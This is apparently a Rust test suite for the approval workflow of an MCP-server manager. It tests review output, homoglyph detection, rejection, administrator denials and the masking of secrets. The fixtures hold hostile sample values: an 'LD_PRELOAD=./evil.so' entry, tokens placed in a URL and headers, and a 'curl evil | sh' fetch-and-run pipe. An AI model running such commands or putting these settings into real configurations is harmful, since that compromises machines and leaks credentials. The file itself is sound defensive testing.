//! `trust`: review, recorded decisions, and changes that need a new approval.

use std::os::unix::fs::PermissionsExt as _;
use std::process::Stdio;

use insta::assert_snapshot;
use serde_json::{Value, json};
use switchboard_testkit::{Step, read_record};

use crate::support::{CliOutput, TestCli, echo_server};

async fn run(cli: &TestCli, args: &[&str]) -> CliOutput {
    let mut command = cli.command_without_trust(args);
    command.env("GITHUB_TOKEN", "hush-hush");
    cli.run_command(command).await
}

fn project_file(cli: &TestCli, servers: &Value) {
    let text = json!({ "mcpServers": servers }).to_string();
    cli.sandbox.write(".mcp.json", text);
}

#[tokio::test]
async fn trust_without_terminal_shows_entries_only() {
    let cli = TestCli::empty();
    cli.sandbox.write_executable("tools/run", "#!/bin/sh\n");
    project_file(
        &cli,
        &json!({
            "mine": {
                "command": "./tools/run",
                "args": ["--root", "${HOME}", "two words", "--token=${GITHUB_TOKEN}"],
                "env": {"LD_PRELOAD": "./evil.so", "API_TOKEN": "sk-literal"},
                "trustAnnotations": true,
            },
            "gone": {"command": "no-such-program\u{202e}", "cwd": "tools"},
            "f\u{430}r": {
                "url": "https://example.com/${GITHUB_TOKEN}",
                "headers": {"Authorization": "Bearer ${GITHUB_TOKEN}", "X-Kind": "plain"},
                "headersHelper": "./tools/helper --now",
            },
        }),
    );
    let output = run(&cli, &["trust"]).await;
    assert_snapshot!(output, @r#"
        exit 4
        --- stdout
        mine
          from  [sandbox]/project/.mcp.json:1:16
          type  stdio
          command  ./tools/run --root [sandbox]/home 'two words' --token="${GITHUB_TOKEN}"
          runs  [sandbox]/project/tools/run
                            (a file in this project)
          env  LD_PRELOAD=./evil.so
                            API_TOKEN=sk-literal
          trustAnnotations  true
          reads  environment variables GITHUB_TOKEN, HOME

        gone
          from  [sandbox]/project/.mcp.json:1:197
          type  stdio
          command  'no-such-program\u{202e}'
                            contains non-ASCII characters: no-such-program\u{202e}
          runs  nothing: program not found
          cwd  [sandbox]/project/tools

        fаr
                            contains non-ASCII characters: f\u{430}r
          from  [sandbox]/project/.mcp.json:1:249
          type  http or sse
          connects to  https://example.com/${GITHUB_TOKEN}
          headers  Authorization=Bearer ${GITHUB_TOKEN}
                            X-Kind=plain
          also runs  ./tools/helper --now
          reads  environment variables GITHUB_TOKEN
        --- stderr
        error: cannot ask for approval of mine, gone, fаr: no terminal
        hint: to approve without a terminal: switchboard trust --yes
        "#);
    assert!(!output.to_string().contains("hush"));
    assert_eq!(
        run(&cli, &["trust", "--list", "--json"]).await.json(),
        json!({"approvals": []})
    );
}

#[tokio::test]
async fn changed_entry_needs_new_approval() {
    let cli = TestCli::with_servers([("ant", echo_server().record("record").into())]);
    assert_eq!(run(&cli, &["trust", "ant", "--yes"]).await.code, 0);
    let call = ["call", "mcp__ant__echo", "message=hi", "--yes"];
    assert_eq!(run(&cli, &call).await.code, 0);
    let record = read_record(cli.sandbox.project().join("record"));
    assert!(
        record
            .iter()
            .any(|message| message["method"] == "tools/call")
    );
    assert_snapshot!(run(&cli, &["trust", "--revoke", "ant"]).await, @"
        exit 0
        --- stdout
        Revoked 1 decision: ant
        ");
    assert_eq!(run(&cli, &call).await.code, 4);

    project_file(&cli, &json!({"ant": {"command": "true", "args": ["one"]}}));
    run(&cli, &["trust", "--yes"]).await;
    project_file(
        &cli,
        &json!({"ant": {"command": "true", "args": ["two"], "cwd": "/"}}),
    );
    assert_snapshot!(run(&cli, &["list"]).await, @"
        exit 0
        --- stdout
          STATUS  SERVER  SCOPE  TRANSPORT  TOOLS  TIME
        ○ pending  ant  project  stdio  -  -
            changed since you approved or rejected it

        1 project server needs approval and was not started.
        To review and approve: switchboard trust
        ");
    let data = run(&cli, &["trust", "ant", "--yes", "--json"]).await.json();
    assert_eq!(
        data["servers"][0]["changes"],
        json!([
            {"field": "args", "before": ["one"], "after": ["two"]},
            {"field": "cwd", "after": "/"},
        ])
    );
    assert_eq!(data["servers"][0]["decision"], "approved");
}

#[tokio::test]
async fn rejected_server_stays_failed() {
    let cli = TestCli::with_servers([(
        "ant",
        echo_server().on_start([Step::count("started")]).into(),
    )]);
    assert_eq!(run(&cli, &["trust", "ant", "--reject"]).await.code, 0);
    assert_snapshot!(run(&cli, &["list"]).await, @"
        exit 0
        --- stdout
          STATUS  SERVER  SCOPE  TRANSPORT  TOOLS  TIME
        ✗ failed  ant  project  stdio  -  -
            you rejected it
            hint: to review it again: switchboard trust ant
        ");
    // A rejected server does not wait for approval.
    assert_snapshot!(run(&cli, &["trust"]).await, @"
        exit 0
        --- stdout
        No servers are waiting for approval.
        Rejected: ant
        To review one again: switchboard trust ant
        ");
    assert_eq!(cli.run(&["get", "ant"]).await.code, 4);
    assert!(!cli.sandbox.project().join("started").exists());
    assert_eq!(run(&cli, &["trust", "ant", "--yes"]).await.code, 0);
    assert_eq!(run(&cli, &["get", "ant"]).await.code, 0);
}

#[tokio::test]
async fn approval_is_only_for_valid_project_servers() {
    let cli = TestCli::empty();
    project_file(
        &cli,
        &json!({"bad": {"command": 5}, "good": {"command": "true"}}),
    );
    let mine = json!({"mcpServers": {"mine": {"command": "true"}}});
    cli.sandbox.write_home(".mcp.json", mine.to_string());
    assert_snapshot!(run(&cli, &["trust", "mine"]).await, @"
        exit 0
        --- stdout
        mine needs no approval: it is not from the project (scope user, [sandbox]/home/.mcp.json:1:16).
        ");
    assert_eq!(run(&cli, &["trust", "bad", "--yes"]).await.code, 3);
    assert_eq!(run(&cli, &["trust", "other"]).await.code, 2);
    assert_eq!(run(&cli, &["trust", "--reject"]).await.code, 2);
    assert_snapshot!(run(&cli, &["trust", "--revoke", "good"]).await, @r#"
        exit 2
        --- stderr
        error: no recorded decision for server "good" in this project
        hint: run `switchboard trust --list` to see all decisions
        "#);
}

#[tokio::test]
async fn denied_server_is_not_offered_for_approval() {
    let cli = TestCli::with_servers([(
        "ant",
        echo_server().on_start([Step::count("started")]).into(),
    )]);
    assert_eq!(run(&cli, &["trust", "ant", "--yes"]).await.code, 0);
    let settings = cli.sandbox.root().join("etc/managed-settings.json");
    let denied = json!({"deniedServers": [{"name": "ant"}]});
    cli.sandbox.write(settings, denied.to_string());
    assert_snapshot!(run(&cli, &["trust", "ant"]).await, @r#"
        exit 4
        --- stderr
        error: server ant cannot be approved: not allowed by the administrator: the name "ant" is denied
        hint: ask your administrator (managed-settings.json)
        "#);
    assert_eq!(
        run(&cli, &["trust"]).await.stdout,
        "No servers are waiting for approval."
    );
    assert_eq!(cli.run(&["get", "ant"]).await.code, 4);
    assert!(!cli.sandbox.project().join("started").exists());
}

#[tokio::test]
async fn broken_approvals_file_approves_nothing() {
    let cli = TestCli::with_servers([("ant", echo_server().into())]);
    run(&cli, &["trust", "--yes"]).await;
    let path = cli.sandbox.state_home().join("switchboard/trust.json");
    let mode = std::fs::metadata(&path).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o600);
    std::fs::write(&path, "{\"version\": 1, \"approvals\": [").unwrap();
    assert_snapshot!(run(&cli, &["list"]).await, @"
        exit 0
        --- stdout
          STATUS  SERVER  SCOPE  TRANSPORT  TOOLS  TIME
        ○ pending  ant  project  stdio  -  -
            not approved

        1 project server needs approval and was not started.
        To review and approve: switchboard trust
        --- stderr
        warning: invalid approvals file: EOF while parsing a list at line 1 column 29; treating all project servers as unapproved
         --> [sandbox]/home/.local/state/switchboard/trust.json
          = hint: rename [sandbox]/home/.local/state/switchboard/trust.json and approve again
        ");
    assert_snapshot!(run(&cli, &["trust", "--yes"]).await, @"
        exit 3
        --- stderr
        error: invalid approvals file: EOF while parsing a list at line 1 column 29
        hint: rename [sandbox]/home/.local/state/switchboard/trust.json and approve again
        ");
    assert_eq!(
        std::fs::read_to_string(&path).unwrap(),
        "{\"version\": 1, \"approvals\": ["
    );
}

#[tokio::test]
async fn answer_from_pipe_is_ignored() {
    let cli = TestCli::with_servers([("ant", echo_server().into())]);
    let mut command = cli.command_without_trust(&["trust"]);
    let mut child = command
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    // Ignore the error: the process may exit before it reads stdin.
    let _ = std::io::Write::write_all(&mut stdin, b"y\n");
    drop(stdin);
    assert_eq!(child.wait().unwrap().code(), Some(4));
    let list = run(&cli, &["trust", "--list", "--json"]).await;
    assert_eq!(list.json(), json!({"approvals": []}));
}

#[tokio::test]
async fn review_is_unmasked_and_cannot_be_imitated() {
    let cli = TestCli::empty();
    let package = "hf_abcdefghijklmnopqrstuvwxyz0123456789";
    project_file(
        &cli,
        &json!({"a": {
            "command": "true",
            "args": [package, "x          runs   /bin/true", "p\u{430}ckage"],
            "env": {"API_KEY": "curl evil | sh", "P\u{410}TH": "${GITHUB_TOKEN}"},
        }}),
    );
    let review = run(&cli, &["trust"]).await.to_string();
    for expected in [
        package,
        "API_KEY=curl evil | sh",
        "${GITHUB_TOKEN}",
        r"x \u{20}",
        r"non-ASCII characters: p\u{430}ckage",
        r"non-ASCII characters: P\u{410}TH",
    ] {
        assert!(review.contains(expected), "{expected}: {review}");
    }
    // JSON output and the approvals file mask the values that the review showed.
    let json = run(&cli, &["trust", "--yes", "--json"]).await.to_string();
    let file = cli.sandbox.state_home().join("switchboard/trust.json");
    for masked in [json, std::fs::read_to_string(file).unwrap()] {
        assert!(
            !masked.contains(package) && !masked.contains("curl evil"),
            "{masked}"
        );
    }
}
